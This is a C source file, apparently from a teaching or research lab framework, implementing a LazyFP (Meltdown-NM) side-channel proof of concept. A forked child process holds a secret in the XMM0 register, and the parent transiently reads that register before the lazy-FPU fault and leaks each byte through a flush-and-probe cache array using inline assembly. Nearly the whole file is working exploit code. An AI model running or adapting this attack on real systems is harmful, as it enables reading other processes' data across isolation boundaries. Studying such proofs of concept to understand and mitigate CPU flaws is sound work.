/*
 * Meltdown-NM (LazyFP): the kernel leaves another process's registers in the FPU and lets the first use fault.
 *
 * The child holds the secret in XMM0. When the parent runs next, CR0.TS is set, and its first SSE instruction raises
 * #NM, by which the kernel puts the parent's own registers in. Until then the instruction computes with the child's.
 */
#include "lab.h"

static const char ABOUT[] = "process 2 only: it holds the secret in XMM0";

static u8 secret[MOST] __attribute__((aligned(LINE)));
static int requests[2], answers[2];

NOINLINE static void serve(u64 bytes)
{
    u8 index = 0;
    make_secret(secret, bytes);
    tell();
    SYSCALL(write, answers[1], &index, 1);
    while (SYSCALL(read, requests[0], &index, 1) == 1) {
        __asm__ volatile("movq (%0), %%xmm0" : : "r"(secret + index));
        SYSCALL(write, answers[1], &index, 1);
    }
    SYSCALL(exit, 0, 0, 0);
}

static int prepare(u64 bytes)
{
    u8 ready;
    SYSCALL(pipe, requests, 0, 0);
    SYSCALL(pipe, answers, 0, 0);
    tell();
    i64 child = SYSCALL(fork, 0, 0, 0);
    if (child == 0) {
        SYSCALL(close, requests[1], 0, 0);
        serve(bytes);
    }
    ignored[0] = 1; /* what the parent's own XMM0 holds */
    return child > 0 && SYSCALL(read, answers[0], &ready, 1) == 1;
}

static void attempt(u64 index)
{
    u8 request = index, answer;
    flush_probe();
    flush(slow_word);
    fence();
    SYSCALL(write, requests[1], &request, 1);
    SYSCALL(read, answers[0], &answer, 1);
    __asm__ volatile("mov slow_word, %%rcx\n\t"
                     "movq %%xmm0, %%rax\n\t"
                     "movzbl %%al, %%eax\n\t"
                     "shl $" STRIDE_SHIFT ", %%rax\n\t"
                     "movzbl probe(%%rax), %%eax" : : : "rax", "rcx", "memory");
}

static void done(void)
{
    SYSCALL(close, requests[1], 0, 0);
    SYSCALL(wait4, -1, 0, 0);
}
